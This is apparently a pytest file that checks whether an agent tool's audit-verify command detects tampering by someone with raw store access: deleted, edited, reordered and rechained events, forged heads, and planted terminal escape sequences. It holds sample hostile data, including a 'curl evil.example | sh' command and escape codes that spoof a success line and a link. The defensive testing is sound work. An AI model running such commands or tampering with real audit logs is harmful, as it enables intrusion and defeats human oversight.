"""Attacks on the audit trail by someone who can write the store but does not hold the key.

Each test writes runs' trails through the store (both backends), tampers with them the way
an attacker with the SQLite file or the Redis password would (``tests/attacks/tamper.py``:
raw SQL and raw Redis commands, SHA-256 recomputed where that helps the attacker), then runs
``airlock audit verify`` as a person would, and expects it to name what was done.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from agent_core.errors import AuditTampered
from agent_core.models import AuditEvent, Run, RunStatus
from agent_core.store import Store, open_store
from bot.cli.main import app
from tests.attacks.tamper import Raw, open_raw, rechain, unkeyed_head
from tests.support import TEST_AUDIT_KEY

KINDS = ("run_claimed", "llm_call", "tool_call", "tool_result", "llm_call", "subtask_finished",
         "run_finished")  # fmt: skip
"""A run's trail, in order: seq 1 is run_claimed, seq 7 run_finished."""


@pytest.fixture
async def store(store_url: str) -> AsyncIterator[Store]:
    """The store on each backend (this directory's conftest gives the agent harness's SQLite)."""
    opened = await open_store(store_url, poll_interval=0.02, audit_key=TEST_AUDIT_KEY)
    try:
        yield opened
    finally:
        await opened.close()


@pytest.fixture
async def raw(store_url: str) -> AsyncIterator[Raw]:
    opened = open_raw(store_url)
    yield opened
    await opened.close()


async def finished_run(store: Store, *, goal: str = "restart the staging web tier") -> Run:
    """A completed run whose trail holds :data:`KINDS`, written the way airlock writes it."""
    run = await store.create_run(Run(goal=goal, requester="U0REQUEST"))
    for target in (RunStatus.PLANNING, RunStatus.RUNNING, RunStatus.COMPLETED):
        run = await store.save_run(run.model_copy(update={"status": target}))
    data: dict[str, Any] = {"tool": "run_command", "arguments": {"cmd": "systemctl restart"}}
    for kind in KINDS:
        await store.append_audit(AuditEvent(run_id=run.id, kind=kind, actor="airlock", data=data))
    return run


async def verify(monkeypatch: pytest.MonkeyPatch, store_url: str, *run_ids: str) -> Result:
    """``airlock audit verify`` on the store, with the key the store was written with."""
    monkeypatch.setenv("AIRLOCK_STORE_URL", store_url)
    monkeypatch.setenv("AIRLOCK_AUDIT_KEY", TEST_AUDIT_KEY)
    return await asyncio.to_thread(CliRunner().invoke, app, ["audit", "verify", *run_ids])


def first_problem(result: Result) -> str:
    """The first line that reports a problem."""
    return next(line for line in result.output.splitlines() if line.startswith("✗"))


def lines(result: Result, about: str) -> list[str]:
    """The output lines that mention ``about``."""
    return [line for line in result.output.splitlines() if about in line]


async def test_untouched_trails_are_intact(
    store: Store, store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await finished_run(store, goal="rotate the logs")
    one = await verify(monkeypatch, store_url, run.id)
    assert one.exit_code == 0, one.output
    assert "1 trail(s) intact" in one.output
    every = await verify(monkeypatch, store_url)
    assert every.exit_code == 0, every.output
    assert "2 trail(s) intact" in every.output


async def test_a_deleted_last_event_is_named_with_its_kind(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await raw.replace(run.id, (await raw.events(run.id))[:-1])
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1, result.output
    [problem] = lines(result, "event 7 is missing (deleted)")
    assert problem.startswith(f"✗ {run.id}:") and "run_finished" in problem


async def test_a_deleted_tail_names_every_position(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await raw.replace(run.id, (await raw.events(run.id))[:4])
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    [problem] = lines(result, "events 5-7 are missing (deleted)")
    assert run.id in problem and "run_finished" in problem


async def test_a_middle_event_deleted_and_the_rest_renumbered_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    kept = bodies[:2] + [{**body, "seq": body["seq"] - 1} for body in bodies[3:]]
    await raw.replace(run.id, kept)
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{run.id}: event 3 is missing (deleted)")
    [renumbered] = lines(result, f"{run.id}: the event stored as 3 ")
    assert "tool_result" in renumbered and "written as event 4" in renumbered


async def test_a_middle_event_deleted_and_the_chain_rewritten_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    await raw.replace(run.id, rechain(bodies[:2] + bodies[3:], start=2))
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1, result.output
    first = first_problem(result)
    assert first.startswith(f"✗ {run.id}: event 3 (") and "tool_result" in first
    assert lines(result, "event 7 is missing (deleted)")


async def test_an_edited_event_with_the_chain_recomputed_is_named(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    bodies[2]["data"]["arguments"] = {"cmd": "curl evil.example | sh"}
    await raw.replace(run.id, rechain(bodies, start=2, renumber=False))
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    first = first_problem(result)
    assert first.startswith(f"✗ {run.id}: event 3 ({bodies[2]['id']}, tool_call) was edited")


async def test_an_edited_event_alone_is_named(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    bodies[1]["actor"] = "U0MALLORY"
    await raw.replace(run.id, bodies)
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1
    assert lines(result, f"{run.id}: event 2 ({bodies[1]['id']}, llm_call) was edited")


async def test_reordered_events_are_found_as_stored_and_when_rechained(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    swapped = [*bodies[:2], bodies[3], bodies[2], *bodies[4:]]
    await raw.replace(run.id, swapped)
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{run.id}: event 4 ({bodies[3]['id']}, tool_result) is out of order")
    await raw.replace(run.id, rechain(swapped, start=2))
    rewritten = await verify(monkeypatch, store_url, run.id)
    assert rewritten.exit_code == 1, rewritten.output
    first = first_problem(rewritten)
    assert first.startswith(f"✗ {run.id}: event 3 ({bodies[3]['id']}, tool_result)")


async def test_the_deleted_trail_of_an_existing_run_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await raw.replace(run.id, [])
    one = await verify(monkeypatch, store_url, run.id)
    assert one.exit_code == 1, one.output
    assert lines(one, f"{run.id}: events 1-7 are missing (deleted)")
    every = await verify(monkeypatch, store_url)
    assert every.exit_code == 1 and lines(every, f"{run.id}: events 1-7 are missing (deleted)")


async def test_a_completed_run_whose_trail_and_head_were_deleted_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await finished_run(store, goal="rotate the logs")
    await raw.replace(run.id, [])
    await raw.put_head(run.id, None)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{run.id}: the run is completed but has no audit trail")
    assert lines(result, "trail #1 of 2 is missing (deleted)")


async def test_a_whole_run_deleted_is_found_by_verifying_all(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = await finished_run(store)
    second = await finished_run(store, goal="rotate the logs")
    await finished_run(store, goal="renew the certificate")
    await raw.wipe(second.id)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, "trail #2 of 3 is missing (deleted)")
    assert not lines(result, first.id)


async def test_a_deleted_run_record_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await raw.drop_run(run.id)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{run.id}: its run record is missing (deleted)")


async def test_an_unknown_run_id_is_an_error_of_one_line(
    store: Store, store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    result = await verify(monkeypatch, store_url, run.id, "run_doesnotexist")
    assert result.exit_code == 2
    assert [line for line in result.output.splitlines() if line.strip()] == [
        "airlock audit verify: no run or audit trail run_doesnotexist"
    ]


async def test_a_purge_is_told_from_a_deletion(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    purged = await finished_run(store)
    monkeypatch.setenv("AIRLOCK_STORE_URL", store_url)
    monkeypatch.setenv("AIRLOCK_AUDIT_KEY", TEST_AUDIT_KEY)
    done = await asyncio.to_thread(
        CliRunner().invoke, app, ["audit", "purge", "--older-than-days", "1e-9"]
    )
    assert done.exit_code == 0 and f"purged {purged.id}" in done.output
    deleted = await finished_run(store, goal="rotate the logs")
    intact = await verify(monkeypatch, store_url, purged.id)
    assert intact.exit_code == 0, intact.output
    assert lines(intact, "purged") and "1 trail(s) intact" in intact.output
    await raw.replace(deleted.id, [])
    head = await raw.head(deleted.id)
    assert head is not None
    tombstone = {"purged": head["count"], "purged_hash": head["last_hash"],
                 "purged_at": "2026-01-01T00:00:00Z"}  # fmt: skip
    await raw.put_head(deleted.id, head | tombstone)
    faked = await verify(monkeypatch, store_url)
    assert faked.exit_code == 1, faked.output
    assert lines(faked, f"{deleted.id}: its head was edited or forged")
    assert not lines(faked, f"✗ {purged.id}")


async def test_a_trail_from_before_the_key_is_a_warning_and_still_checked(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await store.create_run(Run(goal="an old run", requester="U0REQUEST"))
    legacy = rechain([
        {"id": f"evt_old{i}", "run_id": run.id, "kind": kind, "actor": "airlock",
         "at": f"2025-06-01T12:00:0{i}Z", "data": {}, "seq": 0, "prev_hash": "", "hash": ""}
        for i, kind in enumerate(("llm_call", "tool_call", "run_finished"))
    ])  # fmt: skip
    await raw.replace(run.id, legacy)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 0, result.output
    [warning] = lines(result, f"⚠ {run.id}:")
    assert "3 events" in warning and "unkeyed" in warning
    legacy[1]["actor"] = "U0MALLORY"
    await raw.replace(run.id, legacy)
    edited = await verify(monkeypatch, store_url, run.id)
    assert edited.exit_code == 1
    assert lines(edited, f"{run.id}: event 2 (evt_old1, tool_call) was edited")


async def test_a_keyed_trail_rewritten_as_an_unkeyed_one_is_not_taken_for_legacy(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = [{k: v for k, v in body.items() if k != "key_id"} for body in await raw.events(run.id)]
    await raw.replace(run.id, rechain(bodies[:-1]))
    await raw.put_head(run.id, None)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, "trail #1 of 1 is missing (deleted)")
    assert lines(result, f"✗ {run.id}: event 1 (")


async def test_a_head_rewritten_to_hide_a_deleted_tail_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    await raw.replace(run.id, bodies[:-1])
    head = await raw.head(run.id)
    assert head is not None
    last = bodies[-2]
    await raw.put_head(run.id, {**head, "count": 6, "last_id": last["id"],
                                "last_hash": last["hash"], "last_kind": last["kind"]})  # fmt: skip
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{run.id}: its head was edited or forged")


async def test_an_anchor_put_back_from_an_old_copy_is_found(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    await finished_run(store)
    old = await raw.anchor()
    assert old is not None
    second = await finished_run(store, goal="rotate the logs")
    third = await finished_run(store, goal="renew the certificate")
    await raw.wipe(third.id)
    await raw.put_anchor(old)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, f"{second.id}: it is trail #2, but the anchor counts 1")


async def test_text_planted_in_the_store_cannot_steer_the_terminal(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = await raw.events(run.id)
    bodies[2]["kind"] = "tool_call\x1b[2K\r✓ 1 trail(s) intact [green]\u202e"
    bodies[2]["actor"] = "\x1b]8;;https://evil.example\x07click"
    await raw.replace(run.id, bodies)
    result = await verify(monkeypatch, store_url, run.id)
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\r" not in result.output
    assert "\u202e" not in result.output and "\\u001b[2K\\u000d" in result.output
    shown = await asyncio.to_thread(CliRunner().invoke, app, ["audit", "show", run.id],
                                    env={"COLUMNS": "400"})  # fmt: skip
    assert shown.exit_code == 0 and "\x1b" not in shown.output and "chain broken" in shown.output


async def test_what_is_not_an_event_or_a_head_is_reported_and_nothing_is_written_over_it(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    await raw.replace(run.id, [*await raw.events(run.id), {"not": "an event"}])
    await raw.put_head(run.id, {"count": "many"})
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, f"✗ {run.id}: the event stored in position 8 is unreadable")
    assert lines(result, f"✗ {run.id}: its head is unreadable")
    with pytest.raises(AuditTampered):
        await store.append_audit(AuditEvent(run_id=run.id, kind="run_killed", actor="U0X"))
    assert await raw.head(run.id) == {"count": "many"}


async def test_a_keyed_trail_rewritten_whole_with_an_unkeyed_head_is_not_taken_for_old(
    store: Store, store_url: str, raw: Raw, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = await finished_run(store)
    bodies = [{**body, "key_id": ""} for body in await raw.events(run.id)][:-1]
    bodies = rechain(bodies)
    head = await raw.head(run.id)
    assert head is not None
    last = bodies[-1]
    await raw.put_head(run.id, unkeyed_head({**head, "count": 6, "last_id": last["id"],
                                             "last_hash": last["hash"],
                                             "last_kind": last["kind"]}))  # fmt: skip
    await raw.replace(run.id, bodies)
    result = await verify(monkeypatch, store_url)
    assert result.exit_code == 1, result.output
    assert lines(result, f"✗ {run.id}: its head is unsealed, though it is trail #1")
    with pytest.raises(AuditTampered):
        await store.append_audit(AuditEvent(run_id=run.id, kind="run_killed", actor="U0X"))
